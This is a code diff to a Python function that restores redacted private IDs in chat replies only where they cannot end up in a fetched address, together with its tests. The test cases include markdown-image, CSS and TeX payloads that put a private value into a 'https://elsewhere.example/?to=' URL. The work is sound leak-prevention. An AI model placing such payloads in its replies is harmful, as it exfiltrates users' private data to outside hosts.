@@ -50,66 +50,16 @@ def oracle(text):
     longest = sorted(map(re.escape, ORIGINALS), key=len, reverse=True)
     space, opening, closing = r" \t\n\r\f\v", "\"'“‘«„(*_`~", ".,;:!?)\"'”’»*_`~…"
     pattern = rf"(?<![^{space}])([{opening}]*)({'|'.join(longest)})(?=(?:['’]s)?[{closing}]*(?![^{space}]))"
-    tags = (i for i, (a, b) in enumerate(itertools.pairwise(text)) if a == "<" and (b.isalpha() or b in "/!?"))
-    tag = next(tags, len(text))
+    shut = re.search(r"<(?:[^\W\d_]|[/!?])|\][(:]|\\[^\W\d_]|`{3}|~{3}|:{3}", text)
+    end = shut.end() if shut else len(text) + 1
 
     def put(found):
         before = text[: found.start(2)]
-        line = before[before.rfind("\n") + 1 :]
-        if re.search(r"\]:(\s*|\s*[^\s][^\n]*)$", before, flags=re.ASCII):
-            return found[0]
-        shut = found.start(2) > min(tag, redefined(text)) or "<" in line or in_target(before) or in_block(before)
-        if depth(before):
-            named = re.search(r"\\[^\W\d_]", before)
-            shut = shut or bool(named) or before[-1:] != '"' or text[found.end(2) : found.end(2) + 1] != '"'
-        return found[0] if shut else found[1] + ORIGINALS[found[2].lower()]
+        alone = before.endswith('"') and text[found.end(2) : found.end(2) + 1] == '"'
+        kept = found.start(2) >= end or "<" in before[before.rfind("\n") + 1 :] or ("{" in before and not alone)
+        return found[0] if kept else found[1] + ORIGINALS[found[2].lower()]
 
     return re.sub(pattern, put, text, flags=re.IGNORECASE | re.ASCII)
-
-
-def depth(before):
-    """How many braces are open; a backslash keeps one from closing."""
-    found = 0
-    for brace in re.findall(r"\{|(?<!\\)\}", before):
-        found = max(0, found + (1 if brace == "{" else -1))
-    return found
-
-
-def redefined(text):
-    """Where a name is defined that may read what follows as it likes."""
-    kinds = "def|let|new|declare|provide|require|csname|catcode|expand|input|include"
-    found = (re.search(kinds, name[1], re.IGNORECASE) and name.start(1) for name in re.finditer(r"\\([^\W\d_]+)", text))
-    return min((place for place in found if place), default=len(text))
-
-
-def in_target(before):
-    """Whether a link's parentheses are open, or its line goes on: what closes on a line holds to its end."""
-    start = before.find("](")
-    while start >= 0:
-        open_, place = 1, start + 2
-        while place < len(before):
-            open_ += {"(": 1, ")": -(before[place - 1] != "\\")}.get(before[place], 0)
-            if before[place] == "\n" and open_ <= 0:
-                break
-            place += 1
-        else:
-            return True
-        start = before.find("](", place)
-    return False
-
-
-def in_block(before):
-    """Whether a fence of three or more stands unanswered: an answer is a line of as many and nothing else."""
-    needed = {}
-    *lines, last = before.split("\n")
-    for line in lines:
-        alone = re.fullmatch(r" {0,3}(`+|~+|:+)[ \t\r]*", line)
-        if alone and len(alone[1]) >= max(3, needed.get(alone[1][0], 10**9)):
-            del needed[alone[1][0]]
-            continue
-        for run in re.findall(r"`{3,}|~{3,}|:{3,}", line):
-            needed[run[0]] = max(len(run), needed.get(run[0], 0))
-    return bool(needed) or bool(re.search(r"`{3}|~{3}|:{3}", last))
 
 
 def test_a_surrogate_cut_anywhere_is_restored():
@@ -175,6 +125,8 @@ def test_ten_thousand_chunkings_of_one_reply():
         "![x]\n\n[x]: ID-00017",
         "![x](https://elsewhere.example/(a)?to= ID-00017 )",
         """*x*{: style="background-image:url('https://elsewhere.example/?to= ID-00017 ')" }""",
+        "```mermaid\nflowchart LR\n```\t\n ID-00017\n```",
+        "![a]\n\n[b]:\n\n[a]:\n ID-00017",
         r"$\def\f#1;{\style{background-image:url(#1)}{x}}\f https://elsewhere.example/?to= ID-00017 ;$",
         "![x]\n\n[x]:\n   ID-00017",
     ],
@@ -182,8 +134,18 @@ def test_ten_thousand_chunkings_of_one_reply():
 def test_no_private_value_gets_into_an_address_that_a_window_would_fetch(reply):
     restored = in_pieces(reply, range(len(reply)))
     assert restored == reply
-    later = "ID-00017" if re.search(r"<[a-z]|\\def", reply) else "B-4711"  # what may be a tag never ends
-    assert in_pieces(f"{reply}\n> ID-00017", []) == f"{reply}\n> {later}"
+    assert in_pieces(f"A line.\n{reply}", []) == f"A line.\n{reply}"
+
+
+def test_after_what_may_be_an_address_only_plain_lines_are_restored():
+    before = "See ID-00017.\n"
+    for opener, later in (
+        ("a < b", "B-4711"),
+        ("[x](u)", "ID-00017"),
+        ("`ls`", "B-4711"),
+        ("```\nls\n```", "ID-00017"),
+    ):
+        assert in_pieces(f"{before}{opener}\nID-00017", []) == f"See B-4711.\n{opener}\n{later}"
 
 
 def test_values_of_json_are_restored_where_they_stand_alone():
